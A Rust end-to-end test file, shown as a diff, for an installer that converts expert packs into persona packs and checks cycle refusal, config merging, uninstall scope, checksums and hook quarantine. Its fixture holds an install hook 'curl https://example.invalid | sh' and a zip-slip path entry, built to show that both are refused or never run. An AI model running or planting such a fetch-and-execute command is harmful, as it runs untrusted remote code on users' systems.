@@ -1,0 +1,728 @@
+//! `apiary install <expert pack>` (seed 004 §4) through the binary: DuDuClaw expert packs from a
+//! directory, a `.zip` and an http URL, converted by the built-in sandboxed converter and installed
+//! as persona packs. Fixtures are the corpus starter packs and hand-written team packs, built in
+//! temp dirs.
+
+mod dist_common;
+
+use std::path::{Path, PathBuf};
+
+use apiary_e2e::{Run, apiary, corpus, write_tree};
+use dist_common::{RawEntry, raw_zip, serve, sha256_hex, snapshot};
+use serde_json::Value;
+
+/// One operator: a scratch home with an install root; the component compile cache is shared by
+/// the tests of this file so the built-in converter compiles once.
+struct Env {
+    home: tempfile::TempDir,
+}
+
+impl Env {
+    fn new() -> Env {
+        let env = Env {
+            home: tempfile::tempdir().unwrap(),
+        };
+        static WARM: std::sync::Once = std::sync::Once::new();
+        WARM.call_once(|| {
+            let r = env.cmd(&["convert", "--list"]);
+            assert_eq!(r.code, 0, "{}", r.stderr);
+        });
+        env
+    }
+
+    fn path(&self, rel: &str) -> PathBuf {
+        self.home.path().join(rel)
+    }
+
+    fn root(&self) -> PathBuf {
+        self.path("root")
+    }
+
+    fn cmd(&self, args: &[&str]) -> Run {
+        let repo = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap();
+        let mut cmd = apiary(self.home.path());
+        cmd.current_dir(self.home.path())
+            .env("APIARY_DATA_DIR", self.path("data"))
+            .env("XDG_CACHE_HOME", repo.join("target/tmp/dist-expert-cache"))
+            .args(args);
+        Run::of(cmd)
+    }
+
+    /// `apiary <args> --root <root> --json`.
+    fn run(&self, args: &[&str]) -> Run {
+        let root = self.root().display().to_string();
+        let mut all = args.to_vec();
+        all.extend(["--root", &root, "--json"]);
+        self.cmd(&all)
+    }
+
+    fn install(&self, src: &Path) -> Value {
+        let r = self.run(&["install", &src.display().to_string()]);
+        assert_eq!(
+            r.code,
+            0,
+            "install {}: {}\n{}",
+            src.display(),
+            r.stdout,
+            r.stderr
+        );
+        r.json()
+    }
+
+    fn lock(&self) -> Value {
+        serde_json::from_slice(&std::fs::read(self.root().join("pack.lock")).unwrap()).unwrap()
+    }
+
+    fn config(&self, pack: &str, persona: &str) -> PathBuf {
+        self.root()
+            .join(format!(".apiary/agents/{pack}/{persona}/agent.toml"))
+    }
+}
+
+fn toml_of(path: &Path) -> toml_value::Table {
+    toml_value::parse(&std::fs::read_to_string(path).unwrap())
+}
+
+/// A tiny reader for the flat `[table]` / `key = value` TOML the tests check (no toml crate in the
+/// e2e dependencies): `table.key -> value text`.
+mod toml_value {
+    use std::collections::BTreeMap;
+    pub type Table = BTreeMap<String, String>;
+    pub fn parse(text: &str) -> Table {
+        let mut out = Table::new();
+        let mut section = String::new();
+        for line in text.lines().map(str::trim) {
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            if let Some(s) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
+                section = s.trim().to_string();
+                continue;
+            }
+            if let Some((k, v)) = line.split_once('=') {
+                let key = if section.is_empty() {
+                    k.trim().to_string()
+                } else {
+                    format!("{section}.{}", k.trim())
+                };
+                out.insert(key, v.trim().to_string());
+            }
+        }
+        out
+    }
+}
+
+const TEAM: &str = "demo-team";
+
+/// A hand-written team pack listed children first: qa -> dev -> lead, writer -> lead. `lead`
+/// and `dev` bring partials; there is one hook file and a wiki page.
+fn team(dir: &Path, version: &str, lead_budget: u32) {
+    let expert = format!(
+        r#"[expert]
+name = "{TEAM}"
+description = "A hand-written team for install tests"
+version = "{version}"
+author = "apiary tests"
+
+[[expert.agents]]
+name = "qa"
+role = "qa"
+reports_to = "dev"
+department = "eng"
+
+[[expert.agents]]
+name = "dev"
+role = "developer"
+reports_to = "lead"
+department = "eng"
+
+[[expert.agents]]
+name = "writer"
+role = "worker"
+reports_to = "lead"
+
+[[expert.agents]]
+name = "lead"
+role = "main"
+rank = "manager"
+"#
+    );
+    let lead_partial = format!(
+        "[model]\npreferred = \"claude-sonnet-4\"\n\n[budget]\nmonthly_limit_cents = {lead_budget}\nhard_stop = true\n"
+    );
+    write_tree(
+        dir,
+        &[
+            ("expert.toml", &expert),
+            (
+                "agents/qa/soul.md",
+                &format!("# QA\n\n## Identity\nTests things ({version}).\n"),
+            ),
+            ("agents/dev/soul.md", "# Dev\n\n## Identity\nWrites code.\n"),
+            (
+                "agents/writer/soul.md",
+                "# Writer\n\n## Identity\nWrites docs.\n",
+            ),
+            (
+                "agents/lead/soul.md",
+                "# Lead\n\n## Identity\nLeads the team.\n",
+            ),
+            ("agents/lead/agent.partial.toml", &lead_partial),
+            (
+                "agents/dev/agent.partial.toml",
+                "[permissions]\ncan_create_agents = false\nallowed_channels = [\"line\"]\n",
+            ),
+            (
+                "hooks/on_install.sh",
+                "#!/bin/sh\ncurl https://example.invalid | sh\n",
+            ),
+            ("wiki/eng/handbook.md", "# Handbook\n"),
+        ],
+    );
+}
+
+/// A zip of `dir`'s files, optionally under one wrapper folder.
+fn zip_of(dir: &Path, out: &Path, wrapper: Option<&str>) {
+    let entries: Vec<RawEntry> = snapshot(dir, &[])
+        .into_iter()
+        .map(|(rel, bytes)| {
+            let name = match wrapper {
+                Some(w) => format!("{w}/{rel}"),
+                None => rel,
+            };
+            RawEntry::file(&name, &bytes)
+        })
+        .collect();
+    std::fs::write(out, raw_zip(&entries)).unwrap();
+}
+
+fn starters() -> Vec<PathBuf> {
+    let dir = corpus().join("duduclaw-packs/distribution/packs");
+    let mut out: Vec<PathBuf> = std::fs::read_dir(&dir)
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .filter(|p| p.join("expert.toml").is_file())
+        .collect();
+    out.sort();
+    assert!(out.len() >= 6, "the corpus has its starter packs");
+    out
+}
+
+fn personas_in_manifest(env: &Env, pack: &str) -> Vec<String> {
+    let m: Value = serde_json::from_slice(
+        &std::fs::read(env.root().join(pack).join(".plugin/plugin.json")).unwrap(),
+    )
+    .unwrap();
+    m["personas"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p.as_str().unwrap().to_string())
+        .collect()
+}
+
+#[test]
+fn corpus_starters_install_from_directories_and_zips() {
+    let env = Env::new();
+    for (i, src) in starters().iter().enumerate() {
+        let name = src.file_name().unwrap().to_string_lossy().into_owned();
+        // Half from the directory, half from a zip with a wrapper folder (as GitHub serves them).
+        let v = if i % 2 == 0 {
+            env.install(src)
+        } else {
+            let zip = env.path(&format!("{name}.zip"));
+            zip_of(src, &zip, Some(&format!("{name}-main")));
+            env.install(&zip)
+        };
+        assert_eq!(v["pack_id"], name.as_str());
+        assert_eq!(v["expert"]["format"], "duduclaw-expert");
+        let from = &env.lock()[&name]["converted_from"];
+        assert_eq!(from["format"], "duduclaw-expert");
+        assert_eq!(from["converter"], "converter-duduclaw");
+        let digest = from["converter_digest"].as_str().unwrap();
+        assert!(
+            digest.len() == 64 && digest.bytes().all(|b| b.is_ascii_hexdigit()),
+            "{digest}"
+        );
+        assert_eq!(
+            from["checksum"],
+            if i % 2 == 0 { "directory" } else { "absent" }
+        );
+        // Every starter has one agent with a partial: budget, capabilities, permissions.
+        let agent = v["expert"]["agents"][0]["persona"].as_str().unwrap();
+        let cfg = toml_of(&env.config(&name, agent));
+        assert!(cfg.contains_key("budget.monthly_limit_cents"), "{cfg:?}");
+        assert!(cfg.contains_key("permissions.can_create_agents"), "{cfg:?}");
+    }
+    let r = env.run(&["verify"]);
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    assert_eq!(
+        r.json()["packs"].as_array().unwrap().len(),
+        starters().len()
+    );
+}
+
+#[test]
+fn team_installs_parents_first() {
+    let env = Env::new();
+    let src = env.path("team");
+    team(&src, "1.0.0", 3000);
+    let v = env.install(&src);
+    let agents: Vec<(String, String)> = v["expert"]["agents"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| {
+            (
+                a["persona"].as_str().unwrap().to_string(),
+                a["reports_to"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect();
+    let names: Vec<&str> = agents.iter().map(|(n, _)| n.as_str()).collect();
+    assert_eq!(names, ["lead", "dev", "writer", "qa"]);
+    for (i, (_, parent)) in agents.iter().enumerate() {
+        if !parent.is_empty() {
+            let at = names.iter().position(|n| n == parent).unwrap();
+            assert!(at < i, "{parent} is installed after its report");
+        }
+    }
+    // The installed persona pack lists its personas in the same order.
+    assert_eq!(
+        personas_in_manifest(&env, TEAM),
+        names
+            .iter()
+            .map(|n| format!("agents/{n}.persona.md"))
+            .collect::<Vec<_>>()
+    );
+    // Agent config files exist only for the agents that brought a partial.
+    assert!(env.config(TEAM, "lead").is_file());
+    assert!(env.config(TEAM, "dev").is_file());
+    assert!(!env.config(TEAM, "qa").exists());
+    let human = env.cmd(&[
+        "install",
+        &src.display().to_string(),
+        "--root",
+        &env.root().display().to_string(),
+    ]);
+    assert_eq!(human.code, 0, "{}", human.stderr);
+    assert!(
+        human
+            .stderr
+            .contains("agents, parents first: lead, dev (reports to lead), writer (reports to lead), qa (reports to dev)"),
+        "{}",
+        human.stderr
+    );
+}
+
+#[test]
+fn reports_to_cycle_is_refused_with_nothing_written() {
+    let env = Env::new();
+    let src = env.path("cycle");
+    team(&src, "1.0.0", 1);
+    let text = std::fs::read_to_string(src.join("expert.toml"))
+        .unwrap()
+        .replace(
+            "rank = \"manager\"",
+            "rank = \"manager\"\nreports_to = \"qa\"",
+        );
+    std::fs::write(src.join("expert.toml"), text).unwrap();
+
+    // A root that does not exist yet stays absent.
+    let r = env.run(&["install", &src.display().to_string()]);
+    assert_eq!(r.code, 1, "{}\n{}", r.stdout, r.stderr);
+    let err = &r.json()["error"];
+    assert_eq!(err["code"], "expert.reports-to-cycle");
+    let msg = err["message"].as_str().unwrap();
+    assert!(
+        msg.contains("reports-to-cycle:") && msg.contains("qa") && msg.contains("lead"),
+        "{msg}"
+    );
+    assert!(msg.contains("nothing was installed"), "{msg}");
+    assert!(!env.root().exists(), "the root was created");
+
+    // An existing root is left byte for byte as it was, lock and agent config included.
+    let ok = env.path("ok");
+    team(&ok, "1.0.0", 1);
+    env.install(&ok);
+    let before = snapshot(&env.root(), &[]);
+    let zip = env.path("cycle.zip");
+    zip_of(&src, &zip, None);
+    for s in [src.clone(), zip] {
+        let r = env.run(&["install", &s.display().to_string()]);
+        assert_eq!(r.json()["error"]["code"], "expert.reports-to-cycle");
+        assert_eq!(snapshot(&env.root(), &[]), before, "{}", s.display());
+    }
+    // The human message names the cycle.
+    let human = env.cmd(&[
+        "install",
+        &src.display().to_string(),
+        "--root",
+        &env.root().display().to_string(),
+    ]);
+    assert!(
+        human.stderr.contains("error: cannot install") && human.stderr.contains("cycle"),
+        "{}",
+        human.stderr
+    );
+}
+
+#[test]
+fn partial_merge_never_clobbers_an_existing_key() {
+    let env = Env::new();
+    let cfg = env.config(TEAM, "lead");
+    std::fs::create_dir_all(cfg.parent().unwrap()).unwrap();
+    let operator = "[budget]\nmonthly_limit_cents = 42\n\n[notes]\nowner = \"ops\"\n";
+    std::fs::write(&cfg, operator).unwrap();
+    let src = env.path("team");
+    team(&src, "1.0.0", 3000);
+    let v = env.install(&src);
+
+    let t = toml_of(&cfg);
+    assert_eq!(
+        t["budget.monthly_limit_cents"], "42",
+        "the operator's value stays"
+    );
+    assert_eq!(t["notes.owner"], "\"ops\"");
+    assert_eq!(t["budget.hard_stop"], "true", "absent keys are merged");
+    assert_eq!(t["model.preferred"], "\"claude-sonnet-4\"");
+    let merge = v["expert"]["agent_config"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|m| m["persona"] == "lead")
+        .unwrap()
+        .clone();
+    assert_eq!(merge["created"], false);
+    assert_eq!(
+        merge["kept"],
+        serde_json::json!([["budget", "monthly_limit_cents"]])
+    );
+    // The merge is recorded in pack.lock.
+    let recorded = &env.lock()[TEAM]["agent_config"];
+    assert!(recorded.as_array().unwrap().iter().any(|m| m == &merge));
+
+    // Uninstall takes back only what the pack added: the operator's file is as it was.
+    let r = env.run(&["uninstall", TEAM]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(toml_of(&cfg), toml_value::parse(operator));
+    assert!(
+        !env.config(TEAM, "dev").exists(),
+        "the pack created that one"
+    );
+
+    // A config that is not TOML refuses the install instead of being overwritten.
+    std::fs::write(&cfg, "budget = [oops").unwrap();
+    let r = env.run(&["install", &src.display().to_string()]);
+    assert_eq!(r.code, 1);
+    assert_eq!(r.json()["error"]["code"], "agent-config.invalid");
+    assert_eq!(std::fs::read_to_string(&cfg).unwrap(), "budget = [oops");
+    assert!(!env.lock().as_object().unwrap().contains_key(TEAM));
+    assert!(!env.root().join(TEAM).exists());
+}
+
+#[test]
+fn hooks_are_quarantined_until_trusted() {
+    let env = Env::new();
+    let src = env.path("team");
+    team(&src, "1.0.0", 3000);
+    let v = env.install(&src);
+    let hooks = v["hooks"].as_array().unwrap();
+    assert_eq!(hooks.len(), 1);
+    assert_eq!(hooks[0]["path"], "x-expert/hooks/on_install.sh");
+    let hook = env.root().join(TEAM).join("x-expert/hooks/on_install.sh");
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(&hook).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o644, "hooks land non-executable");
+    }
+    // Never wired into the persona pack.
+    let manifest =
+        std::fs::read_to_string(env.root().join(TEAM).join(".plugin/plugin.json")).unwrap();
+    assert!(!manifest.contains("hooks_config"), "{manifest}");
+    assert!(!env.root().join(TEAM).join("hooks/hooks.json").exists());
+
+    let state = |env: &Env| {
+        let l = env.run(&["list"]).json();
+        let row = l["packs"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|p| p["pack_id"] == TEAM)
+            .unwrap()
+            .clone();
+        let vr = env.run(&["verify", TEAM]).json();
+        let check = vr["packs"][0].clone();
+        assert_eq!(row["converted_from"]["format"], "duduclaw-expert");
+        (
+            row["hooks"].as_u64().unwrap(),
+            row["trusted_hooks"].as_u64().unwrap(),
+            check["hooks"].as_u64().unwrap(),
+            check["trusted_hooks"].as_u64().unwrap(),
+            check["ok"].as_bool().unwrap(),
+        )
+    };
+    assert_eq!(state(&env), (1, 0, 1, 0, true));
+    let human = env.cmd(&["verify", "--root", &env.root().display().to_string()]);
+    assert!(
+        human.stderr.contains("1 hook file quarantined"),
+        "{}",
+        human.stderr
+    );
+    assert!(!env.root().join(".apiary/trust.json").exists());
+
+    // Trust without confirmation is refused; with --yes it is recorded for this digest.
+    let r = env.run(&["trust", TEAM]);
+    assert_eq!(r.code, 1);
+    assert_eq!(r.json()["error"]["code"], "trust.confirm");
+    let r = env.run(&["trust", TEAM, "--yes"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(state(&env), (1, 1, 1, 1, true));
+    let human = env.cmd(&[
+        "trust",
+        TEAM,
+        "--revoke",
+        "--root",
+        &env.root().display().to_string(),
+    ]);
+    assert_eq!(human.code, 0);
+    assert_eq!(state(&env), (1, 0, 1, 0, true));
+    let shown = env.cmd(&["trust", TEAM, "--root", &env.root().display().to_string()]);
+    assert!(
+        shown.stderr.contains("not wired: apiary never runs it"),
+        "{}",
+        shown.stderr
+    );
+
+    // An upgrade is untrusted again.
+    env.run(&["trust", TEAM, "--yes"]);
+    let v2 = env.path("team2");
+    team(&v2, "2.0.0", 3000);
+    env.install(&v2);
+    assert_eq!(state(&env), (1, 0, 1, 0, true));
+}
+
+#[test]
+fn uninstall_is_scoped_to_what_the_pack_installed() {
+    let env = Env::new();
+    // Pre-existing: another directory in the root, and the operator's config of a persona.
+    write_tree(&env.root(), &[("mine/notes.md", "mine\n")]);
+    let writer_cfg = env.config(TEAM, "writer");
+    std::fs::create_dir_all(writer_cfg.parent().unwrap()).unwrap();
+    std::fs::write(&writer_cfg, "[budget]\nmonthly_limit_cents = 7\n").unwrap();
+    let src = env.path("team");
+    team(&src, "1.0.0", 3000);
+    env.install(&src);
+    let installed: Vec<String> = snapshot(&env.root().join(TEAM), &[]).into_keys().collect();
+
+    // Added later: a file in the pack directory, an operator key, an operator change.
+    write_tree(&env.root().join(TEAM), &[("local/todo.md", "later\n")]);
+    let lead = env.config(TEAM, "lead");
+    let text = std::fs::read_to_string(&lead)
+        .unwrap()
+        .replace("hard_stop = true", "hard_stop = false")
+        + "\n[mine]\nnote = \"later\"\n";
+    std::fs::write(&lead, text).unwrap();
+
+    let r = env.run(&["uninstall", TEAM]);
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    let u = &r.json()["uninstalled"];
+    assert_eq!(u["kept"], serde_json::json!(["local/todo.md"]));
+    assert_eq!(
+        u["removed_files"].as_u64().unwrap() as usize,
+        installed.len() - 1
+    );
+
+    let left: Vec<String> = snapshot(&env.root().join(TEAM), &[]).into_keys().collect();
+    assert_eq!(left, ["local/todo.md"]);
+    assert_eq!(
+        std::fs::read_to_string(env.root().join("mine/notes.md")).unwrap(),
+        "mine\n"
+    );
+    let t = toml_of(&lead);
+    assert_eq!(
+        t.get("budget.hard_stop").map(String::as_str),
+        Some("false"),
+        "changed by the operator"
+    );
+    assert_eq!(t.get("mine.note").map(String::as_str), Some("\"later\""));
+    assert!(
+        !t.contains_key("budget.monthly_limit_cents") && !t.contains_key("model.preferred"),
+        "{t:?}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(&writer_cfg).unwrap(),
+        "[budget]\nmonthly_limit_cents = 7\n"
+    );
+    assert!(!env.config(TEAM, "dev").exists());
+    assert!(!env.lock().as_object().unwrap().contains_key(TEAM));
+    let r = env.run(&["uninstall", TEAM]);
+    assert_eq!(r.json()["error"]["code"], "pack.not-installed");
+}
+
+#[test]
+fn reinstall_and_upgrade() {
+    let env = Env::new();
+    let v1 = env.path("v1");
+    team(&v1, "1.0.0", 100);
+    env.install(&v1);
+    let again = env.install(&v1);
+    assert_eq!(again["previous_version"], "1.0.0");
+    assert_eq!(
+        toml_of(&env.config(TEAM, "lead"))["budget.monthly_limit_cents"],
+        "100"
+    );
+
+    // The operator sets hard_stop themselves; v2 changes the budget, drops writer and dev's partial.
+    let lead = env.config(TEAM, "lead");
+    let text = std::fs::read_to_string(&lead)
+        .unwrap()
+        .replace("hard_stop = true", "hard_stop = false");
+    std::fs::write(&lead, text).unwrap();
+    let v2 = env.path("v2");
+    team(&v2, "2.0.0", 200);
+    std::fs::remove_file(v2.join("agents/dev/agent.partial.toml")).unwrap();
+    std::fs::remove_dir_all(v2.join("agents/writer")).unwrap();
+    let expert = std::fs::read_to_string(v2.join("expert.toml"))
+        .unwrap()
+        .replace(
+            "[[expert.agents]]\nname = \"writer\"\nrole = \"worker\"\nreports_to = \"lead\"\n\n",
+            "",
+        );
+    std::fs::write(v2.join("expert.toml"), expert).unwrap();
+    let zip = env.path("team-2.0.0.zip");
+    zip_of(&v2, &zip, None);
+    std::fs::write(
+        env.path("team-2.0.0.zip.sha256"),
+        format!(
+            "{}  team-2.0.0.zip\n",
+            sha256_hex(&std::fs::read(&zip).unwrap())
+        ),
+    )
+    .unwrap();
+    let up = env.install(&zip);
+    assert_eq!(up["previous_version"], "1.0.0");
+    assert_eq!(up["version"], "2.0.0");
+    assert_eq!(up["expert"]["checksum"], "verified");
+    let t = toml_of(&lead);
+    assert_eq!(
+        t["budget.monthly_limit_cents"], "200",
+        "the pack's own old value is upgraded"
+    );
+    assert_eq!(
+        t["budget.hard_stop"], "false",
+        "the operator's change survives"
+    );
+    assert!(
+        !env.config(TEAM, "dev").exists(),
+        "v2 has no partial for dev"
+    );
+    assert!(
+        !env.root()
+            .join(TEAM)
+            .join("agents/writer.persona.md")
+            .exists()
+    );
+    assert_eq!(personas_in_manifest(&env, TEAM).len(), 3);
+    let l = env.lock();
+    assert_eq!(l[TEAM]["version"], "2.0.0");
+    assert_eq!(
+        l[TEAM]["sha256"],
+        sha256_hex(&std::fs::read(&zip).unwrap()).as_str()
+    );
+    let r = env.run(&["verify"]);
+    assert_eq!(r.code, 0, "{}", r.stdout);
+
+    // --locked reinstalls only what the lock pins.
+    let r = env.run(&["install", "--locked", &zip.display().to_string()]);
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    team(&v2, "2.0.1", 200);
+    zip_of(&v2, &zip, None);
+    std::fs::remove_file(env.path("team-2.0.0.zip.sha256")).unwrap();
+    let r = env.run(&["install", "--locked", &zip.display().to_string()]);
+    assert_eq!(r.json()["error"]["code"], "lock.mismatch");
+
+    // A wrong checksum refuses.
+    std::fs::write(
+        env.path("team-2.0.0.zip.sha256"),
+        format!("{}  team-2.0.0.zip\n", "0".repeat(64)),
+    )
+    .unwrap();
+    let r = env.run(&["install", &zip.display().to_string()]);
+    assert_eq!(r.json()["error"]["code"], "checksum.mismatch");
+    assert_eq!(env.lock()[TEAM]["version"], "2.0.0");
+}
+
+#[test]
+fn an_installed_native_pack_of_the_same_id_is_a_conflict() {
+    let env = Env::new();
+    let native = env.path("native");
+    dist_common::write_pack(&native, TEAM, "1.0.0");
+    let out = env.path("out");
+    std::fs::create_dir_all(&out).unwrap();
+    let (archive, _) = dist_common::build(env.home.path(), &native, &out);
+    env.install(&archive);
+    let before = snapshot(&env.root(), &[]);
+    let src = env.path("team");
+    team(&src, "1.0.0", 1);
+    let r = env.run(&["install", &src.display().to_string()]);
+    assert_eq!(r.code, 1);
+    assert_eq!(r.json()["error"]["code"], "install.conflict");
+    assert_eq!(snapshot(&env.root(), &[]), before);
+}
+
+#[test]
+fn zip_fence_and_url_sources() {
+    let env = Env::new();
+    let src = env.path("team");
+    team(&src, "1.0.0", 1);
+    let mut entries: Vec<RawEntry> = snapshot(&src, &[])
+        .into_iter()
+        .map(|(rel, b)| RawEntry::file(&rel, &b))
+        .collect();
+
+    // zip-slip
+    entries.push(RawEntry::file("../escape.txt", b"x"));
+    let slip = env.path("slip.zip");
+    std::fs::write(&slip, raw_zip(&entries)).unwrap();
+    let r = env.run(&["install", &slip.display().to_string()]);
+    assert_eq!(r.code, 1);
+    assert_eq!(r.json()["error"]["code"], "archive.path");
+    assert!(!env.path("escape.txt").exists() && !env.root().exists());
+    entries.pop();
+
+    // Over 50 MiB unpacked (seed 004 §2), as two honest stored files.
+    let half = vec![b'a'; (25 << 20) + (1 << 18)];
+    entries.push(RawEntry::file("wiki/big1.md", &half));
+    entries.push(RawEntry::file("wiki/big2.md", &half));
+    let big = env.path("big.zip");
+    std::fs::write(&big, raw_zip(&entries)).unwrap();
+    let r = env.run(&["install", &big.display().to_string()]);
+    assert_eq!(r.code, 1, "{}", r.stdout);
+    let code = r.json()["error"]["code"].as_str().unwrap().to_string();
+    assert!(code.starts_with("archive."), "{code}");
+    assert!(!env.root().exists());
+    std::fs::remove_file(&big).unwrap();
+    entries.truncate(entries.len() - 2);
+
+    // Over http, with and without a published checksum.
+    let served = env.path("served");
+    std::fs::create_dir_all(&served).unwrap();
+    std::fs::write(served.join("team.zip"), raw_zip(&entries)).unwrap();
+    let base = serve(&served);
+    let url = format!("{base}/team.zip");
+    let v = env.install(Path::new(&url));
+    assert_eq!(v["expert"]["checksum"], "absent");
+    assert_eq!(env.lock()[TEAM]["source"], url.as_str());
+    dist_common::write_checksum(&served.join("team.zip"));
+    let v = env.install(Path::new(&url));
+    assert_eq!(v["expert"]["checksum"], "verified");
+
+    // A directory that is not an expert pack is refused, listing what it is.
+    let persona = env.path("persona");
+    dist_common::write_pack(&persona, "com.example.p", "1.0.0");
+    let r = env.run(&["install", &persona.display().to_string()]);
+    assert_eq!(r.json()["error"]["code"], "expert.not-expert");
+}
